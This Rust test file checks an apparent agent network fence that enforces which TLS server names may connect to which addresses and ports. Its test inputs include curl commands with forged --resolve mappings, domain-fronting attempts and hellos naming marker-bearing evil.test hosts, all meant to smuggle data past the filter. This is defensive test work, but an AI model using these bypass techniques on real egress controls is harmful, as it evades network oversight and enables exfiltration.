//! Which name passes where: one that earned the very address, at a port that its rule opens.

use super::{CGROUP, Denied, denies, gated, leaks, policy, said, servers, works};
use crate::{
    AGENT,
    attack::script,
    fence,
    fence::Fence,
    places::{ALT, OK, SHARED},
    policies::{with, with_denied},
    program::poll_for,
    sniffer::mark,
    talker::Talker,
};
use std::time::Duration;

#[test]
fn a_true_name_at_an_address_of_another_is_denied() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    // Both are allowed, and both are looked up.
    let looked_up = "getent hosts {mark}.ok.test; {trick} gate.say whole 4 alt.test 4430 {mark}.ok.test";
    denied(&fence, "alt", looked_up, "server-name-not-granted", "{mark}.ok.test");
    let not_looked_up = "{trick} gate.say whole 6 alt.test 4430 {mark}.ok.test";
    denied(&fence, "alt6", not_looked_up, "server-name-not-granted", "{mark}.ok.test");
    let foreign = "curl -s https://{host}/; {trick} gate.say whole 4 {host} 4430 alt.test; getent hosts {mark}.evil.test";
    denied(&fence, "foreign", foreign, "server-name-not-granted", "alt.test");
}

#[test]
fn a_true_name_at_an_address_that_nobody_granted_is_denied() {
    let fence = gated("kernel");
    let tricks = [
        "curl -s https://ok.test/; curl -sk -m 2 --resolve ok.test:443:{v4} https://ok.test/{mark}",
        "curl -s https://ok.test/; curl -sk -m 2 --resolve ok.test:443:[{v6}] https://ok.test/{mark}",
    ];
    crate::attack::stops(&fence.agent(AGENT).with(CGROUP), crate::places::EVIL, &tricks);
}

#[test]
fn a_false_name_at_a_granted_address_is_denied() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let names = ["{mark}.evil.test", "{mark}", "{mark}.a.ok.test", "ok.test.{mark}", "x{mark}ok.test"];
    for (number, name) in names.into_iter().enumerate() {
        let trick = format!("{{trick}} gate.say whole 4 ok.test 4430 {name}");
        denied(&fence, &format!("name{number}"), &trick, "host-not-allowed", name);
    }
}

#[test]
fn of_two_tenants_at_an_address_the_kernel_passes_the_allowed_one() {
    let fence = gated("kernel");
    let agent = fence.agent(AGENT).with(CGROUP);
    works(&agent, SHARED, &["curl -sSf -m 5 https://{host}/ | grep 'hello from {host}'"]);
    let fronted =
        "curl -s https://{host}/; curl -s -m 2 --resolve evil2.test:443:{v4} https://evil2.test/{mark}";
    crate::attack::stops(&agent, SHARED, &[fronted]);
}

#[test]
fn a_name_of_a_wildcard_passes_where_it_was_looked_up() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let agent = fence.agent(AGENT).with(CGROUP);
    works(&agent, OK, &["{trick} gate.say whole 4 www.{host} 4430 www.{host}"]);
    works(&agent, OK, &["{trick} gate.say whole 6 www.{host} 4430 WWW.{host}"]);
    works(&agent, OK, &["{trick} gate.say_variant upper 4 {host} 4430 {host}"]);
    // What was never asked for earned nothing.
    let unasked = "{trick} gate.say whole 4 ok.test 4430 {mark}.ok.test";
    denied(&fence, "unasked", unasked, "server-name-not-granted", "{mark}.ok.test");
}

#[test]
fn a_name_passes_at_no_port_that_its_rule_does_not_open() {
    let fence = fence(&with(&[
        "{host: ok.test, private: true}",
        "{host: '*.ok.test', ports: [443, 4430], private: true}",
    ]));
    let _servers = servers(fence.lab());
    let trick = "getent hosts ok.test; {trick} gate.say whole 4 www.ok.test 4430 ok.test";
    denied(&fence, "port", trick, "port-not-allowed", "ok.test");
    // Of a port that nobody opens, not even the first segment leaves.
    let agent = fence.agent(AGENT).with(CGROUP);
    let outcome = agent.run(&script("{trick} gate.say whole 4 ok.test 4431 ok.test", OK, ""));
    assert!(outcome.says("PermissionError"), "{outcome:#?}");
}

#[test]
fn a_denied_name_of_a_wildcard_is_denied_in_a_hello() {
    let fence =
        fence(&with_denied(&["{host: '*.ok.test', ports: [4430], private: true}"], &["{host: bad.ok.test}"]));
    let _servers = servers(fence.lab());
    let trick = "{trick} gate.say whole 4 www.ok.test 4430 bad.ok.test";
    denied(&fence, "bad", trick, "denied-by-rule", "bad.ok.test");
}

#[test]
fn a_name_passes_until_its_grant_expires() {
    // The address stays open, by the grant of another name.
    let fence = fence(&with(&[
        "{host: ok.test, ports: [4430], private: true}",
        "{host: short.test, ports: [4430], private: true}",
    ]));
    let _servers = servers(fence.lab());
    let agent = fence.agent("patient").with(CGROUP);
    let mut talker = Talker::start(&agent);
    talker.does("gate.say whole 4 short.test 4430 short.test");
    // Of five seconds, the least that a name is answered for, and thirty of grace.
    let denied = poll_for(Duration::from_secs(60), || {
        (talker.tell("gate.say whole 4 ok.test 4430 short.test").starts_with("error")).then_some(())
    });
    assert!(denied.is_some(), "the grant never expires");
    let record = agent.denial("the expired grant", |record| record["gate"] == "server-name");
    assert_eq!(record["reason"], "grant-expired", "{record:#}");
    assert_eq!(record["destination"]["name"], "short.test", "{record:#}");
    talker.does("gate.say whole 4 ok.test 4430 ok.test");
    talker.does("gate.say whole 4 short.test 4430 short.test");
}

#[test]
fn a_hello_names_one_server_in_one_way() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    for (variant, reason, name) in [
        ("two_names", "name-invalid", ""),
        ("two_extensions", "hello-malformed", ""),
        ("other_type", "name-invalid", ""),
        ("behind", "hello-malformed", ""),
        ("nul", "name-invalid", ""),
        ("prefixed", "host-not-allowed", "ok.test{mark}.evil.test"),
        ("nameless", "server-name-missing", ""),
        ("plain", "host-not-allowed", "{mark}.evil.test"),
        ("upper", "host-not-allowed", "{mark}.evil.test"),
        ("impatient", "host-not-allowed", "{mark}.evil.test"),
    ] {
        let trick = format!("{{trick}} gate.say_variant {variant} 4 ok.test 4430 {{mark}}.evil.test");
        denied(&fence, variant, &trick, reason, name);
    }
}

#[test]
fn an_encrypted_hello_passes_as_its_rule_says() {
    let rules = ["ok.test", "alt.test, ech: refuse", "ok2.test, ech: allow"]
        .map(|rule| format!("{{host: {rule}, ports: [4430], private: true}}"));
    let fence = fence(&with(&rules.each_ref().map(String::as_str)));
    let _servers = servers(fence.lab());
    let agent = fence.agent(AGENT).with(CGROUP);
    let trick = "{trick} gate.say_variant hidden 4 {host} 4430 {host}";
    works(&agent, OK, &[trick]);
    works(&agent, SHARED, &[trick]);
    works(&agent, ALT, &["{trick} gate.say whole 4 {host} 4430 {host}"]);
    let refused = "{trick} gate.say_variant hidden 4 alt.test 4430 alt.test";
    denied(&fence, "hidden", refused, "ech-not-allowed", "alt.test");
}

#[test]
fn the_proxy_denies_the_same_names_for_the_same_reasons() {
    let fence = fence(&policy("proxy"));
    let _servers = servers(fence.lab());
    for (number, (name, reason)) in [
        ("{mark}.evil.test", "host-not-allowed"),
        ("{mark}.ok.test", "server-name-not-granted"),
        ("alt.test", "server-name-not-granted"),
    ]
    .into_iter()
    .enumerate()
    {
        let trick = format!("{{trick}} gate.say whole 4 ok.test 4430 {name}");
        let agent = format!("proxied{number}");
        denies(&fence.agent(&agent).with(CGROUP), "proxy", 4430, Denied { trick: &trick, reason, name });
    }
}

#[test]
fn no_octet_of_a_denied_name_is_held_for_the_next_flow() {
    let fence = gated("kernel");
    let _servers = servers(fence.lab());
    let agent = fence.agent("again").with(CGROUP);
    let (mark, position) = (mark(), fence.lab().sniffer().position());
    let trick = "for i in 1 2 3; do {trick} gate.say octets 4 ok.test 4430 {mark}.evil.test; done; true";
    let outcome = agent.run(&script(trick, OK, &mark));
    fence.lab().settle();
    assert_eq!(said(fence.lab(), position, 4430), "", "{outcome:#?}");
    works(&agent, OK, &["{trick} gate.say octets 4 {host} 4430 {host}"]);
    leaks(fence.lab(), 4430, trick);
}

fn denied(fence: &Fence, agent: &str, trick: &str, reason: &str, name: &str) {
    denies(&fence.agent(agent).with(CGROUP), "kernel", 4430, Denied { trick, reason, name });
}
